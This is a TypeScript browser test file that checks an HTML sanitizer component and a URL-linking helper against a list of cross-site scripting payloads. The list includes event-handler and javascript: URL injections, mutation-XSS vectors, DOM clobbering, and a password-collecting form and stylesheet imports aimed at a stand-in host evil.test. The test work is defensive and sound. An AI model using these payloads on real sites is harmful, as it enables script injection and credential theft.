import { fileURLToPath } from 'node:url'
import type { Page } from 'playwright-core'
import { build, type Rollup } from 'vite'
import { beforeAll, describe, expect, it } from 'vitest'
import { browserOfFile } from './browser-of-file.ts'

/** In Chromium, because the parsers of DOMs made for tests are not those that attacks are written for. */
const browser = browserOfFile()
let page: Page
const dialogs: string[] = []
const requests: string[] = []

const entry = `
import { createElement } from 'react'
import { flushSync } from 'react-dom'
import { createRoot } from 'react-dom/client'
import { linkAddresses } from '#visualizations/parts/safe-address.ts'
import { SafeHtml } from '#visualizations/parts/safe-html.tsx'
const root = createRoot(document.body.appendChild(document.createElement('main')))
window.show = (html, links) => flushSync(() =>
  root.render(createElement(SafeHtml, { html: links ? linkAddresses(html) : html })))
`

/** The component as the browser gets it, without a policy that would stop what it lets through. */
async function bundled(): Promise<string> {
  const built = await build({
    configFile: false,
    root: fileURLToPath(new URL('../..', import.meta.url)),
    logLevel: 'silent',
    define: { 'process.env.NODE_ENV': '"production"' },
    oxc: { jsx: { runtime: 'automatic', development: false } },
    plugins: [
      {
        name: 'entry',
        resolveId: (id) =>
          id.endsWith('sanitized-html-entry')
            ? fileURLToPath(new URL('./entry.ts', import.meta.url))
            : undefined,
        load: (id) => (id.endsWith('/e2e/entry.ts') ? entry : undefined),
      },
    ],
    build: { write: false, minify: false, rollupOptions: { input: 'sanitized-html-entry' } },
  })
  const { output } = (Array.isArray(built) ? built[0] : built) as Rollup.RollupOutput
  return output[0].code
}

beforeAll(async () => {
  page = await browser().newPage()
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message())
    void dialog.dismiss()
  })
  await page.route('**', (route) => {
    requests.push(route.request().url())
    return route.fulfill({ contentType: 'text/html', body: '<!doctype html><title>t</title>' })
  })
  await page.goto('http://sextant.test/')
  await page.addScriptTag({ type: 'module', content: await bundled() })
  await page.waitForFunction('window.show')
})

const show = async (html: string, links = false): Promise<string> => {
  await page.evaluate(`window.show(${JSON.stringify(html)}, ${links})`)
  return page.evaluate<string>('document.querySelector("main > div").innerHTML')
}

const payloads = [
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java&#9;script:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="https://evil.test"><input name=password><button>go</button></form>',
  '<style>@import "https://evil.test/a.css"; body { display: none }</style>',
  '<link rel=stylesheet href="https://evil.test/b.css">',
  '<meta http-equiv=refresh content="0;url=https://evil.test">',
  '"><base href="https://evil.test/">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<details open ontoggle=alert(1)>x</details>',
  '<input autofocus onfocus=alert(1)>',
  '<div id="show" name="cookie">x</div>',
]

describe('HTML from data', () => {
  it.each(payloads)('cannot run or reach out: %s', async (payload) => {
    dialogs.length = 0
    for (const links of [false, true]) {
      const html = await show(`before ${payload} after`, links)
      await page.waitForTimeout(30)
      expect(html).not.toMatch(/<(?:script|iframe|object|embed|form|style|link|meta|base)\b/i)
      const attributes = await page.evaluate<string[]>(
        `[...document.querySelectorAll('main *')].flatMap((node) => [...node.attributes].map(({ name, value }) => name + '=' + value.trim().toLowerCase()))`,
      )
      expect(attributes.filter((text) => /^on|^srcdoc|^action|javascript:|^id=show/.test(text))).toEqual([])
    }
    expect(dialogs).toEqual([])
    expect(requests.filter((address) => address.includes('evil.test'))).toEqual([])
    expect(page.url()).toBe('http://sextant.test/')
  })

  it('keeps what is harmless', async () => {
    expect(await show('<b>a</b> <i style="color: red">b</i> <img src="https://x.test/a.png" alt="c">')).toBe(
      '<b>a</b> <i style="color: red">b</i> <img src="https://x.test/a.png" alt="c">',
    )
  })

  it('keeps only the target that opens a new tab, with rel', async () => {
    await show(
      '<a href="https://x/" target="_top">a</a><a href="https://y/" target="_blank" rel="opener">b</a>',
    )
    expect(
      await page.evaluate(
        '[...document.querySelectorAll("main a")].map((a) => [a.getAttribute("target"), a.getAttribute("rel")])',
      ),
    ).toEqual([
      [null, null],
      ['_blank', 'noopener noreferrer'],
    ])
  })

  it('makes links of addresses only where they start', async () => {
    await show(
      'https://a.b/c?d=1&e=2, see<br>ftp://x/y <i>xhttp://no</i> www.no.de (https://no)\nHTTP://Z/',
      true,
    )
    expect(
      await page.evaluate(
        '[...document.querySelectorAll("main a")].map((a) => [a.getAttribute("href"), a.target, a.rel])',
      ),
    ).toEqual([
      ['https://a.b/c?d=1&e=2', '_blank', 'noopener noreferrer'],
      ['ftp://x/y', '_blank', 'noopener noreferrer'],
      ['HTTP://Z/', '_blank', 'noopener noreferrer'],
    ])
  })
})
